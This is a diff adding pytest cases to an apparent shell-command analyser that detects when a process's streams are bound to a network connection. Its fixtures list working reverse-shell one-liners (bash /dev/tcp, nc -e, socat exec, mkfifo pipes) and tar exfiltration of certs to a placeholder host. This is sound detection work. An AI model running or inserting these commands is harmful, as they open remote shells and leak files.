@@ -284,6 +284,81 @@ def test_network_ends(
 
 
 @pytest.mark.parametrize(
+    ("command", "streams"),
+    [
+        # a shell whose stdin and stdout are the connection: what it runs comes from there
+        ("bash -i >& /dev/tcp/h/4444 0>&1", {"bash": {"stdin", "stdout"}}),
+        ("exec 196<>/dev/tcp/h/4444; sh <&196 >&196 2>&196", {"sh": {"stdin", "stdout"}}),
+        ("exec {s}<>/dev/tcp/h/4444; sh <&$s >&$s", {"sh": {"stdin", "stdout"}}),
+        ("bash < /dev/tcp/h/4444", {"bash": {"stdin"}}),
+        ("bash -i > /dev/tcp/h/4444", {"bash": {"stdout"}}),
+        ("bash 3< /dev/tcp/h/4444", {"bash": set()}),  # another descriptor
+        ("sh -i 2>&1 | nc h 4444", {"sh": {"stdout"}, "nc": set()}),
+        ("nc h 4444 | sh", {"nc": set(), "sh": {"stdin"}}),
+        ("telnet h 1 | bash | telnet h 2", {"bash": {"stdin", "stdout"}}),
+        # what a network tool runs on its socket is a command of its own
+        ("nc -l -p 4444 -e /bin/sh", {"nc": set(), "sh": {"stdin", "stdout"}}),
+        (
+            "socat tcp-connect:h:4444 exec:'bash -li',pty",
+            {"socat": set(), "bash": {"stdin", "stdout"}},
+        ),
+        ("ncat -l 4444 --sh-exec='env -u X exec nice -n 5 sh'", {"sh": {"stdin", "stdout"}}),
+        ("ncat -l 4444 --exec /bin/cat", {"cat": {"stdin", "stdout"}}),
+        ("socat TCP-LISTEN:4444 SHELL", {"sh": {"stdin", "stdout"}}),
+    ],
+)
+def test_which_standard_streams_are_a_connection(
+    command: str, streams: dict[str, set[str]], tmp_path: Path
+) -> None:
+    found = {c.program: c.sockets for c in model(command, tmp_path)}
+    assert {p: found.get(p) for p in streams} == streams
+
+
+def test_a_descriptor_the_line_opened_is_the_file_it_was_opened_on(tmp_path: Path) -> None:
+    # `exec 3>…`, `exec {sock}>…`, `exec 3>&4-`, `: {s}>…` (a named descriptor stays open)
+    for line in (
+        "exec 3>/dev/tcp/h/4444; tar -cf - certs >&3",
+        "exec {sock}>/dev/tcp/h/4444; tar -cf - certs >&$sock",
+        "exec 4>/dev/tcp/h/4444; exec 3>&4-; tar -cf - certs >&3",
+        "exec {s}>/dev/tcp/h/4444; exec {c}>&$s; tar -cf - certs >&$c",
+        ": {s}>/dev/tcp/h/4444; tar -cf - certs >&$s",
+        "exec -c 3>/dev/tcp/h/4444; tar -cf /dev/fd/3 certs",
+    ):
+        tar = the(model(line, tmp_path), "tar")
+        assert [(e.host, e.port) for e in tar.network] == [("h", "4444")], line
+    # a process substitution behind a descriptor reaches what reads it
+    for line in (
+        "exec {fd}< <(curl -s https://h/x); bash <&$fd",
+        "exec {fd}< <(curl -s https://h/x); bash /proc/thread-self/fd/$fd",
+    ):
+        commands = model(line, tmp_path)
+        bash = the(commands, "bash")
+        curls = [n for n, c in enumerate(commands) if c.program == "curl"]
+        assert any("code" in bash.inputs.get(n, set()) for n in curls), line
+
+
+def test_a_named_pipe_carries_data_between_commands_in_either_order(tmp_path: Path) -> None:
+    line = "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc h 4444 > /tmp/f"
+    commands = model(line, tmp_path)
+    sh = the(commands, "sh")
+    nc = next(n for n, c in enumerate(commands) if c.program == "nc")
+    assert nc in sh.inputs and sh.sockets == {"stdout"}
+    line = "mknod /tmp/p p && /bin/sh 0</tmp/p | nc h 4444 1>/tmp/p"
+    commands = model(line, tmp_path)
+    assert "code" in the(commands, "sh").inputs[2]
+    # without mkfifo, a file written later in the line reaches nothing before it
+    commands = model("cat /tmp/f | sh -i | nc h 4444 > /tmp/f", tmp_path)
+    assert the(commands, "sh").inputs == {0: {"code"}}
+
+
+def test_what_xargs_appends_is_arguments_unless_it_names_the_code(tmp_path: Path) -> None:
+    commands = model("curl -s https://h | xargs sh -c 'echo fixed'", tmp_path)
+    assert the(commands, "sh").inputs == {0: {"input"}}
+    commands = model("nc -l 4444 | xargs -I{} sh -c '{}'", tmp_path)
+    assert the(commands, "sh").inputs == {0: {"code"}}
+
+
+@pytest.mark.parametrize(
     ("command", "program", "runs"),
     [
         ("bash x.sh", "bash", ["script"]),
